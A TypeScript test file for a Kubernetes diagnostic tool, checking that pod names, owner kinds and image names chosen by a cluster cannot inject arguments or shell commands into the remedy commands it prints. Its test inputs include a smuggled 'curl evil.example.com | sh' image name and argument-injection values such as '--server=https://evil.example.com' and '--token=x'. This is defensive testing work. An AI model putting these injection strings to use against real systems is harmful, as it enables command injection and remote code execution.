/** Words from the cluster in the commands that doctor prints: the creator of a pod chooses them, and the operator pastes the command. */
import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { pullRemedy } from '../../src/doctor/hops/pods/pull-remedy.ts'
import { type PrintedCommands, printedCommands } from '../../src/doctor/printed-commands.ts'
import { podOf } from '../../src/kubernetes/objects/pods.ts'

const commands: PrintedCommands = printedCommands({
  files: ['pull.yaml'],
  kubeconfig: undefined,
  context: '-production',
  tokenFile: undefined,
  environment: {},
  stores: [],
  refreshes: 'this user',
  at: new Date('2026-11-24T12:00:00Z'),
})

const podOwnedBy = (kind: string, name: string) =>
  podOf(
    {
      metadata: { ownerReferences: [{ kind, name, controller: true }] },
      spec: { containers: [{ name: 'web', image: 'registry.example.com/web:1' }] },
    },
    { namespace: 'team-a', name: 'web-0' },
  )

function remedyOf(kind: string, name: string) {
  const pod = podOwnedBy(kind, name)
  const [container] = pod.containers
  assert.ok(container)
  return pullRemedy('never pulled', { container, pod, commands }).remedy
}

suite('a pod whose ownerReferences name a controller', () => {
  test('leads to a command that patches it', () => {
    assert.match(remedyOf('Deployment', 'web')?.command ?? '', /^kubectl patch deployment web -n team-a -p /)
  })

  for (const name of ['--server=https://evil.example.com', '-f', '', 'a\u202Eb', 'Web', 'a b', 'x'.repeat(254)]) {
    test(`leads to no command if its name is not a DNS name: ${JSON.stringify(name.slice(0, 40))}`, () => {
      const remedy = remedyOf('Deployment', name)
      assert.equal(remedy?.command, undefined)
      assert.equal(
        remedy?.words,
        'set imagePullPolicy: IfNotPresent for container web in the template of this pod, or load the image on the node',
      )
    })
  }

  test('has none if its kind is not a name', () => {
    assert.equal(podOwnedBy('--kubeconfig=/tmp/x', 'web').controller, undefined)
  })
})

test('an image that contains a shell command is quoted where it is removed from a node', () => {
  const pod = podOf(
    { spec: { containers: [{ name: 'web', image: 'x; curl evil.example.com | sh' }] } },
    { namespace: 'team-a', name: 'web-0' },
  )
  const [container] = pod.containers
  assert.ok(container)
  assert.match(
    pullRemedy('node store damaged', { container, pod, commands }).remedy?.words ?? '',
    /: crictl rmi 'x; curl evil\.example\.com \| sh'; then kubectl delete pod web-0 -n team-a/,
  )
})

suite('a printed command', () => {
  for (const word of [
    '--server=https://evil.example.com',
    '-s',
    '--token=x',
    '--type=json',
    'a\u0007b',
    '--audience=a\u202Eb',
  ]) {
    test(`contains a variable in place of ${JSON.stringify(word)}`, () => {
      assert.equal(
        commands.kubectl('delete', 'pod', word, '-n', 'team-a'),
        'kubectl delete pod "${NAME:?}" -n team-a --context -production',
      )
      assert.equal(commands.check(word), 'pullpass issuer check "${NAME:?}"')
      assert.equal(
        commands.pullpass('trust apply', '--subject', word),
        'pullpass trust apply -f pull.yaml --subject "${NAME:?}" --context -production',
      )
    })
  }
})
